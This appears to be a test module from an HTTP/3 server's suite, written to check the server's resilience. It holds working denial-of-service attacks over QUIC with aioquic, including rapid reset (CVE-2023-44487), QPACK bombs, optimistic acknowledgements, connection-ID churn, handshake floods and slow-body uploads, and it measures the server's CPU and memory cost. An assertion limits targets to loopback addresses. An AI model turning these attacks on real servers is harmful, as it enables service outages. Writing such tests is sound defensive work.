"""Attacks on HTTP/3 and QUIC: `python -m tests.wire.http3_attacks HOST:PORT [--pid PID] [--seconds S] [NAME...]`.

Each is what a hostile client sends, for a bounded time, through aioquic's QUIC with streams and packets written here. A
server must either end the connection or bear it; with `--pid`, the cost for that process is printed as well. Only addresses of
this machine are attacked.
"""

from __future__ import annotations

import argparse
import dataclasses
import ipaddress
import itertools
import json
import os
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from aioquic.h3.connection import H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection, QuicConnectionId
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted
from aioquic.tls import Epoch

from tests.support.http3.server import varint
from tests.support.process_resources import cpu_seconds, resident_bytes

DATA, HEADERS, CANCEL_PUSH, SETTINGS, MAX_PUSH_ID = 0, 1, 3, 4, 0xD
PRIORITY_UPDATE = 0xF0700
H3_REQUEST_CANCELLED = 0x10C
CONTROL, ENCODER = 0, 2
HANDSHAKE_S = 10.0
IN_FLIGHT_BYTES = 200_000
"""Bytes that wait in aioquic for credit or acknowledgements; an attack pauses above it."""
KNOWN_IDS = 1000
"""The last of the connection IDs that it has issued, to which an attacker listens."""
INITIALS = 400
"""First packets that a flood of handshakes has ready; a real one would have millions."""


@dataclasses.dataclass
class Outcome:
    """Result of an attack. `frames`: units that were sent; `closed`: error code and reason with which the server ended the connection."""

    name: str
    seconds: float
    frames: int
    sent_bytes: int
    received_bytes: int
    closed: str | None = None
    cpu_s: float | None = None
    rss_growth_bytes: int | None = None


class StreamStopped(Exception):
    """The server takes no more of this stream (STOP_SENDING), which ends the attack."""


class Client:
    """A connection without asyncio: `step` moves datagrams, `quic` and `http` take what is to be sent."""

    def __init__(self, address: tuple[str, int], **options: Any) -> None:
        configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost")
        configuration.verify_mode = ssl.CERT_NONE
        for name, value in options.items():
            setattr(configuration, name, value)
        self.address = address
        self.quic = QuicConnection(configuration=configuration)
        self.socket = _socket(address)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.socket, selectors.EVENT_READ)
        self.sent_bytes = self.received_bytes = 0
        self.ready = False
        self.closed: str | None = None
        self._http: H3Connection | None = None
        self.quic.connect(address, now=time.monotonic())

    @property
    def http(self) -> H3Connection:
        if self._http is None:
            self._http = H3Connection(self.quic)
        return self._http

    def __enter__(self) -> Client:
        until = time.monotonic() + HANDSHAKE_S
        while not self.ready and self.closed is None and time.monotonic() < until:
            self.step(0.05)
        return self

    def __exit__(self, *_: object) -> None:
        self.quic.close()
        self.flush()
        self.selector.close()
        self.socket.close()

    def step(self, wait: float = 0.0) -> None:
        """Sends what is due, and takes what has come."""
        self.flush()
        if self.selector.select(wait):
            for _ in range(64):
                try:
                    data = self.socket.recv(65_536)
                except (BlockingIOError, ConnectionRefusedError):
                    break
                self.received_bytes += len(data)
                self.quic.receive_datagram(data, self.address, now=time.monotonic())
        timer = self.quic.get_timer()
        if timer is not None and timer <= time.monotonic():
            self.quic.handle_timer(now=time.monotonic())
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, HandshakeCompleted):
                self.ready = True
            elif isinstance(event, ConnectionTerminated):
                self.closed = f"0x{event.error_code:x} {event.reason_phrase}".strip()
        self.flush()

    def flush(self) -> None:
        for data, _ in self.quic.datagrams_to_send(now=time.monotonic()):
            self.sent_bytes += len(data)
            try:
                self.socket.send(data)
            except OSError:
                return

    def is_full(self) -> bool:
        """Whether much waits for the server's credit or for its acknowledgements."""
        streams = self.quic._streams.values()
        return sum(len(one.sender._buffer) for one in streams) > IN_FLIGHT_BYTES

    def can_open(self) -> bool:
        """Whether the server allows one more request."""
        return bool(self.quic._local_next_stream_id_bidi // 4 < self.quic._remote_max_streams_bidi)

    def request(self, path: bytes = b"/", *, end: bool = True) -> int:
        stream = self.quic.get_next_available_stream_id()
        head = [(b":method", b"GET" if end else b"POST"), (b":scheme", b"https"), (b":authority", b"x")]
        self.http.send_headers(stream, [*head, (b":path", path)], end)
        return stream

    def raw(self, stream: int, data: bytes, *, end: bool = False) -> None:
        try:
            self.quic.send_stream_data(stream, data, end)
        except RuntimeError as error:
            raise StreamStopped(str(error)) from error

    @property
    def control(self) -> int:
        found = self.http._local_control_stream_id
        assert found is not None
        return found

    @property
    def encoder(self) -> int:
        found = self.http._local_encoder_stream_id
        assert found is not None
        return found

    def withhold_credit(self) -> None:
        self.quic._write_stream_limits = lambda *_, **__: None  # type: ignore[method-assign]
        self.quic._write_connection_limits = lambda *_, **__: None  # type: ignore[method-assign]


def _socket(address: tuple[str, int]) -> socket.socket:
    assert ipaddress.ip_address(address[0]).is_loopback, "attacks are for this machine only"
    sock = socket.socket(type=socket.SOCK_DGRAM)
    sock.connect(address)
    sock.setblocking(False)
    return sock


def frame(kind: int, payload: bytes) -> bytes:
    return varint(kind) + varint(len(payload)) + payload


Steps = Iterator[object]
"""One item for each unit that was sent, or `WAITING`; the driver moves datagrams between them."""
WAITING = object()
"""The server allows no further request at the moment."""


# --- honest clients ------------------------------------------------------------------------------------------


def connections(address: tuple[str, int], seconds: float) -> Outcome:
    """One connection that does nothing."""
    began = time.monotonic()
    with Client(address) as client:
        pass
    return Outcome("connections", time.monotonic() - began, 1, client.sent_bytes, client.received_bytes)


def requests(client: Client) -> Steps:
    """Requests whose responses are read."""
    while True:
        while not client.can_open():
            yield WAITING
        client.request()
        yield


# --- attacks on one connection -------------------------------------------------------------------------------


def rapid_reset(client: Client) -> Steps:
    """Requests that are cancelled at once (CVE-2023-44487 over HTTP/3)."""
    while True:
        while not client.can_open():
            yield WAITING
        stream = client.request()
        client.quic.stop_stream(stream, H3_REQUEST_CANCELLED)
        yield


def reset_uploads(client: Client) -> Steps:
    """Requests whose bodies are reset before their end."""
    while True:
        while not client.can_open():
            yield WAITING
        stream = client.request(b"/echo", end=False)
        client.raw(stream, frame(DATA, b"x" * 100))
        client.quic.reset_stream(stream, H3_REQUEST_CANCELLED)
        yield


def unread_responses(client: Client) -> Steps:
    """As many large responses as the server allows, of which none is read."""
    client.withhold_credit()
    while True:
        while not client.can_open():
            yield WAITING
        client.request(b"/large")
        yield


def empty_data(client: Client) -> Steps:
    """DATA frames without data."""
    stream = client.request(b"/echo", end=False)
    while True:
        client.raw(stream, frame(DATA, b"") * 100)
        yield


def unknown_frames(client: Client) -> Steps:
    """Frames of a reserved type (RFC 9114 7.2.8) on a request stream."""
    stream = client.request(b"/echo", end=False)
    while True:
        client.raw(stream, frame(0x21, b"x" * 10) * 100)
        yield


def half_frame(client: Client) -> Steps:
    """The head of a frame of 2^40 bytes, then single bytes of it, on each stream."""
    streams = []
    while client.can_open():
        streams.append(client.request(b"/echo", end=False))
        client.raw(streams[-1], varint(DATA) + varint(1 << 40))
    for stream in itertools.cycle(streams):
        client.raw(stream, b"x")
        yield


def priority_updates(client: Client) -> Steps:
    """PRIORITY_UPDATE frames for streams that are not there (RFC 9218 7.1)."""
    for number in itertools.count():
        payload = varint(4 * (number % 100)) + b"u=%d,i" % (number % 8)
        client.raw(client.control, frame(PRIORITY_UPDATE, payload) * 50)
        yield


def priority_updates_ahead(client: Client) -> Steps:
    """PRIORITY_UPDATE frames that each name another stream far ahead."""
    for number in itertools.count(1):
        client.raw(client.control, frame(PRIORITY_UPDATE, varint(4 * number * 1000) + b"u=1"))
        yield


def push_ids(client: Client) -> Steps:
    """MAX_PUSH_ID frames, ever larger."""
    for number in itertools.count():
        client.raw(client.control, frame(MAX_PUSH_ID, varint(number)))
        yield


def reserved_control_frames(client: Client) -> Steps:
    """Frames of a reserved type on the control stream."""
    while True:
        client.raw(client.control, frame(0x21, b"x" * 10) * 100)
        yield


def second_settings(client: Client) -> Steps:
    """SETTINGS again, which is an error (RFC 9114 7.2.4)."""
    while True:
        client.raw(client.control, frame(SETTINGS, b""))
        yield


def qpack_blocked(client: Client) -> Steps:
    """Field sections that need insertions which never come (RFC 9204 2.1.2)."""
    while True:
        while not client.can_open():
            yield WAITING
        stream = client.quic.get_next_available_stream_id()
        # Required Insert Count 1 (coded as 2), base 0, then an indexed line of the dynamic table.
        client.raw(stream, frame(HEADERS, b"\x02\x00\x80"), end=True)
        yield


def qpack_insertions(client: Client) -> Steps:
    """Insertions into the dynamic table without end: it is filled and emptied."""
    client.raw(client.encoder, b"\x3f\xe1\x1f")  # capacity 4096
    for number in itertools.count():
        # Literal name of six bytes, literal value of a hundred.
        client.raw(client.encoder, b"\x46x%05d" % (number % 100_000) + bytes([100]) + b"v" * 100)
        yield


def qpack_bomb(client: Client) -> Steps:
    """A value of 3,000 bytes, inserted once and named a thousand times in each request."""
    client.raw(client.encoder, b"\x3f\xe1\x1f")
    value = b"v" * 3000
    client.raw(client.encoder, b"\x41x" + _prefixed(len(value)) + value)
    section = b"\x02\x00" + b"\xd1\xd7\x50\x01x\xc1" + b"\x80" * 1000
    while True:
        while not client.can_open():
            yield WAITING
        client.raw(client.quic.get_next_available_stream_id(), frame(HEADERS, section), end=True)
        yield


def long_headers(client: Client) -> Steps:
    """A field section of a megabyte."""
    while True:
        while not client.can_open():
            yield WAITING
        stream = client.quic.get_next_available_stream_id()
        client.raw(stream, varint(HEADERS) + varint(1 << 20) + b"\x00\x00")
        for _ in range(100):
            client.raw(stream, b"\x26x-name" + bytes([100]) + b"v" * 100)
            yield


def unidirectional_streams(client: Client) -> Steps:
    """Streams of unknown types (RFC 9114 6.2.3), each with some bytes and without an end."""
    while True:
        if client.quic._local_next_stream_id_uni // 4 < client.quic._remote_max_streams_uni:
            stream = client.quic.get_next_available_stream_id(is_unidirectional=True)
            client.raw(stream, varint(0x21) + b"x" * 100)
            yield
        else:
            yield WAITING


def pings(client: Client) -> Steps:
    """PING frames, each in a packet of its own."""
    for number in itertools.count():
        client.quic.send_ping(number)
        client.flush()
        yield


def optimistic_ack(client: Client) -> Steps:
    """Acknowledgements of packets that were never sent (RFC 9000 21.4), while a large response is under way."""
    client.request(b"/large")
    for number in itertools.count(1):
        space = client.quic._spaces[Epoch.ONE_RTT]
        space.ack_queue.add(number * 1000, number * 1000 + 500)
        space.ack_at = time.monotonic()
        yield


def migrations(client: Client) -> Steps:
    """A new address for every few packets, which the server must validate (RFC 9000 9.3)."""
    while True:
        client.quic.send_ping(0)
        client.flush()
        old = client.socket
        client.selector.unregister(old)
        client.socket = _socket(client.address)
        client.selector.register(client.socket, selectors.EVENT_READ)
        old.close()
        yield


def new_connection_ids(client: Client) -> Steps:
    """NEW_CONNECTION_ID frames that each retire all earlier ones; packets of the server are not acknowledged."""
    client.quic._write_ack_frame = lambda *_, **__: None  # type: ignore[method-assign]
    handlers = getattr(client.quic, "_QuicConnection__frame_handlers")  # noqa: B009 - a private name
    handlers[0x19] = (lambda _context, _kind, buffer: buffer.pull_uint_var(), handlers[0x19][1])
    known = client.quic._host_cids
    for number in itertools.count(8):
        # The server sends to it, `CONNECTION_CLOSE` at last.
        known.append(QuicConnectionId(number.to_bytes(8, "big"), number))
        del known[:-KNOWN_IDS]
        data = varint(number) + varint(number) + b"\x08" + number.to_bytes(8, "big") + os.urandom(16)
        _send_frame(client, 0x18, data)
        yield


def retired_connection_ids(client: Client) -> Steps:
    """RETIRE_CONNECTION_ID frames for all numbers, so that the server must issue others."""
    for number in itertools.count(1):
        _send_frame(client, 0x19, varint(number))
        yield


def crypto_gaps(client: Client) -> Steps:
    """CRYPTO frames with gaps, whose bytes must be held (RFC 9000 7.5)."""
    for number in itertools.count():
        _send_frame(client, 0x06, varint(1 + 1100 * number) + varint(1000) + bytes(1000))
        yield


def stream_gaps(client: Client) -> Steps:
    """STREAM frames of one byte at every hundredth offset of all streams, so that no two ranges can be joined."""
    while True:
        while not client.can_open():
            yield WAITING
        # The body is awaited: the stream of a request with a response would be stopped, and reset with a wrong size.
        stream = client.request(b"/echo", end=False)
        for at in range(100, 100_000, 100):
            _send_frame(client, 0x0E, varint(stream) + varint(at) + varint(1) + b"x")
            yield


def _send_frame(client: Client, kind: int, data: bytes) -> None:
    """Sends a frame of QUIC, in a packet of its own."""

    def write(builder: Any, *_: Any, **__: Any) -> None:
        builder.start_frame(kind, capacity=len(data) + 8).push_bytes(data)

    client.quic._write_ping_frame = write  # type: ignore[method-assign]
    client.quic.send_ping(0)
    client.flush()


def credit_updates(client: Client) -> Steps:
    """MAX_STREAM_DATA frames, each a byte more for a response that waits for none."""
    stream = client.request(b"/echo", end=False)
    for number in itertools.count(1 << 20):
        _send_frame(client, 0x11, (varint(stream) + varint(number)))
        yield


def slow_bodies(client: Client) -> Steps:
    """Uploads on all streams, a byte of each every 10 ms at most."""
    streams = []
    while client.can_open():
        streams.append(client.request(b"/echo", end=False))
    for stream in itertools.cycle(streams):
        client.raw(stream, frame(DATA, b"x"))
        yield
        client.step(0.01)


# --- attacks before a connection ------------------------------------------------------------------------------


def first_packets() -> list[bytes]:
    """First packets of connections."""
    found = []
    for _ in range(INITIALS):
        configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost")
        quic = QuicConnection(configuration=configuration)
        quic.connect(("127.0.0.1", 1), now=0.0)
        found.append(quic.datagrams_to_send(now=0.0)[0][0])
    return found


def handshake_flood(address: tuple[str, int], seconds: float, packets: Sequence[bytes] = ()) -> Outcome:
    """First packets of connections whose handshakes do not go on, each from an address of its own.

    `packets`: of `first_packets`; by default new ones.
    """
    packets = packets or first_packets()
    sockets: list[socket.socket] = []
    began, sent, received = time.monotonic(), 0, 0
    try:
        for packet in packets:
            sockets.append(_socket(address))
            sockets[-1].send(packet)
            sent += len(packet)
        while time.monotonic() - began < seconds:
            time.sleep(0.05)
            for one in sockets:
                try:
                    while data := one.recv(65_536):
                        received += len(data)
                except OSError:
                    continue
    finally:
        for one in sockets:
            one.close()
    return Outcome("handshake_flood", time.monotonic() - began, len(packets), sent, received)


def garbage(address: tuple[str, int], seconds: float) -> Outcome:
    """Datagrams of random bytes, some of which look like packets of QUIC."""
    began, sent, count, received = time.monotonic(), 0, 0, 0
    sock = _socket(address)
    shapes = [os.urandom(1200), b"\xc0\x00\x00\x00\x01\x08" + os.urandom(1194), b"\x40" + os.urandom(50)]
    try:
        while time.monotonic() - began < seconds:
            for shape in shapes:
                data = shape[:6] + os.urandom(8) + shape[14:]
                try:
                    sock.send(data)
                    received += len(sock.recv(65_536))
                except OSError:
                    pass
                sent += len(data)
                count += 1
            time.sleep(0.0002)
    finally:
        sock.close()
    return Outcome("garbage", time.monotonic() - began, count, sent, received)


ON_CONNECTIONS: dict[str, Callable[[Client], Steps]] = {
    one.__name__: one
    for one in (
        *(rapid_reset, reset_uploads, unread_responses, empty_data, unknown_frames, half_frame),
        *(priority_updates, priority_updates_ahead, push_ids, reserved_control_frames, second_settings),
        *(qpack_blocked, qpack_insertions, qpack_bomb, long_headers, unidirectional_streams),
        *(pings, optimistic_ack, migrations, slow_bodies),
        *(new_connection_ids, retired_connection_ids, crypto_gaps, stream_gaps),
        *(credit_updates,),
    )
}
BEFORE: dict[str, Callable[[tuple[str, int], float], Outcome]] = {
    "handshake_flood": handshake_flood,
    "garbage": garbage,
}
ATTACKS = (*ON_CONNECTIONS, *BEFORE)
HONEST = ("connections", "requests")
"""Clients to compare with."""


def attack(name: str, address: tuple[str, int], seconds: float, pid: int | None = None) -> Outcome:
    """Runs an attack for at most `seconds`; it ends earlier when the server ends its connection."""
    before = (cpu_seconds(pid), resident_bytes(pid)) if pid is not None else None
    alone = BEFORE | {"connections": connections}
    outcome = alone[name](address, seconds) if name in alone else _on_connection(name, address, seconds)
    if before is not None and pid is not None:
        outcome.cpu_s = cpu_seconds(pid) - before[0]
        outcome.rss_growth_bytes = resident_bytes(pid) - before[1]
    return outcome


def _on_connection(name: str, address: tuple[str, int], seconds: float) -> Outcome:
    frames = 0
    # Credit for a megabyte: the server's memory for unread responses is what it allows itself.
    with Client(address, max_data=1 << 20, max_stream_data=1 << 18) as client:
        began = time.monotonic()
        until = began + seconds
        assert client.http
        client.step(0.05)
        steps = (requests if name == "requests" else ON_CONNECTIONS[name])(client)
        while client.closed is None and time.monotonic() < until:
            if client.is_full():
                client.step(0.005)
                continue
            try:
                is_sent = next(steps) is not WAITING
            except StreamStopped:
                client.closed = "the server stopped the stream"
                break
            except Exception as error:
                if client.closed is None:
                    raise RuntimeError(f"{name}: {error}") from error
                break
            frames += is_sent
            client.step()
        client.step(0.05)
        took = time.monotonic() - began
        return Outcome(name, took, frames, client.sent_bytes, client.received_bytes, client.closed)


def _prefixed(number: int) -> bytes:
    """An integer with a prefix of seven bits (RFC 7541 5.1)."""
    if number < 127:
        return bytes([number])
    rest, found = number - 127, b"\x7f"
    while rest >= 128:
        found += bytes([rest % 128 + 128])
        rest //= 128
    return found + bytes([rest])


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.wire.http3_attacks")
    parser.add_argument("address", help="HOST:PORT of this machine")
    parser.add_argument("names", nargs="*", metavar="NAME", help=", ".join(ATTACKS))
    parser.add_argument("--pid", type=int)
    parser.add_argument("--seconds", type=float, default=2.0)
    options = parser.parse_args()
    host, _, port = options.address.rpartition(":")
    for name in options.names or ATTACKS:
        outcome = attack(name, (host, int(port)), options.seconds, options.pid)
        print(json.dumps(dataclasses.asdict(outcome)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
